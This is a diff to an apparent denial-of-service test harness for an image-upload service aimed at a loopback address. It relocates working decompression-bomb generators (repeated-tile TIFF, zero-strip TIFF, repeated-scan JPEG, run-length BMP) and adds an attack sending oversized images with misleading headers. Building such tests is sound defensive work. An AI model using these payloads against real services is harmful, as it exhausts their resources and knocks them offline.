@@ -15,11 +15,20 @@ import struct
 import sys
 import threading
 import time
-import zlib
 from collections import Counter
 from collections.abc import Callable
 
 import numpy as np
+from costly_images import (
+    bmp_of_runs,
+    float_tiff,
+    image_bytes,
+    large_image,
+    scan_bomb,
+    stuffed_jpeg,
+    tile_bomb,
+    two_png_headers,
+)
 from PIL import Image
 
 ATTACKER = "127.0.0.2"
@@ -296,6 +305,11 @@ def row_bombs(target: Target) -> None:
     post_images(target, images * 5, 4)
 
 
+def lying_images(target: Target) -> None:
+    """Requests of 20 JPEGs and PNGs of 49 million pixels whose headers name 4,096 to a careless reader."""
+    post_images(target, [stuffed_jpeg(7000), two_png_headers(7000)] * 10, 4)
+
+
 def many_images(target: Target) -> None:
     """Requests of 64 ordinary photos of 12 million pixels, over 8 connections."""
     encoded = io.BytesIO()
@@ -321,94 +335,6 @@ def post_images(target: Target, images: list[bytes], connections: int) -> None:
     target.on_threads(one, connections)
 
 
-def image_bytes(form: str, size: tuple[int, int] = (160, 120)) -> bytes:
-    pixels = np.random.default_rng(0).integers(0, 255, (size[1], size[0], 3), np.uint8)
-    encoded = io.BytesIO()
-    Image.fromarray(pixels).save(encoded, form)
-    return encoded.getvalue()
-
-
-def large_image(form: str, side: int) -> bytes:
-    encoded = io.BytesIO()
-    mode = "L" if form == "GIF" else "RGB"
-    options = {"lossless": True, "method": 0} if form == "WEBP" else {}
-    Image.new(mode, (side, side), 100 if mode == "L" else (1, 2, 3)).save(encoded, form, **options)
-    return encoded.getvalue()
-
-
-def tile_bomb(side: int = 6400) -> bytes:
-    """All tiles are the same compressed one: a small file, and 160,000 tiles to decode."""
-    tile = zlib.compress(bytes(16 * 16 * 3))
-    count = (-(-side // 16)) ** 2
-    entries = [
-        (256, 4, 1, side),
-        (257, 4, 1, side),
-        (258, 3, 3, 8),
-        (259, 3, 1, 8),
-        (262, 3, 1, 2),
-        (277, 3, 1, 3),
-        (322, 4, 1, 16),
-        (323, 4, 1, 16),
-    ]
-    at = 8 + len(tile)
-    bits, offsets = at, at + 6
-    counts = offsets + 4 * count
-    entries[2] = (258, 3, 3, bits)
-    entries += [(324, 4, count, offsets), (325, 3, count, counts)]
-    directory = counts + 2 * count
-    listed = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
-    return (
-        struct.pack("<2sHI", b"II", 42, directory)
-        + tile
-        + struct.pack("<3H", 8, 8, 8)
-        + struct.pack("<I", 8) * count
-        + struct.pack("<H", len(tile)) * count
-        + struct.pack("<H", len(entries))
-        + listed
-        + bytes(4)
-    )
-
-
-def float_tiff(side: int) -> bytes:
-    """One strip of zeros."""
-    strip = zlib.compress(bytes(side * side * 4))
-    entries = [
-        (256, 4, 1, side),
-        (257, 4, 1, side),
-        (258, 3, 1, 32),
-        (259, 3, 1, 8),
-        (262, 3, 1, 1),
-        (273, 4, 1, 8),
-        (277, 3, 1, 1),
-        (278, 4, 1, side),
-        (279, 4, 1, len(strip)),
-        (339, 3, 1, 3),
-    ]
-    listed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
-    head = struct.pack("<2sHI", b"II", 42, 8 + len(strip))
-    return head + strip + struct.pack("<H", len(entries)) + listed + bytes(4)
-
-
-def scan_bomb(side: int, scans: int) -> bytes:
-    """A progressive JPEG whose last scan is there again and again."""
-    encoded = io.BytesIO()
-    Image.new("L", (side, side)).save(encoded, "JPEG", progressive=True, quality=50)
-    data = encoded.getvalue()
-    last = data.rindex(b"\xff\xda")
-    return data[:-2] + data[last:-2] * (scans - data.count(b"\xff\xda")) + data[-2:]
-
-
-def bmp_of_runs(side: int) -> bytes:
-    """Run-length coded rows, each of runs of 250."""
-    full, rest = divmod(side, 250)
-    row = b"\xfa\x01" * full + (bytes([rest, 1]) if rest else b"") + b"\0\0"
-    pixels = row * side + b"\0\1"
-    palette = bytes(1024)
-    head = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(pixels), 0, 0, 256, 0)
-    start = 14 + len(head) + len(palette)
-    return struct.pack("<2sIHHI", b"BM", start + len(pixels), 0, 0, start) + head + palette + pixels
-
-
 ATTACKS: dict[str, Callable[[Target], None]] = {
     attack.__name__: attack
     for attack in (
@@ -429,6 +355,7 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
         float_tiffs,
         scan_bombs,
         row_bombs,
+        lying_images,
         many_images,
     )
 }
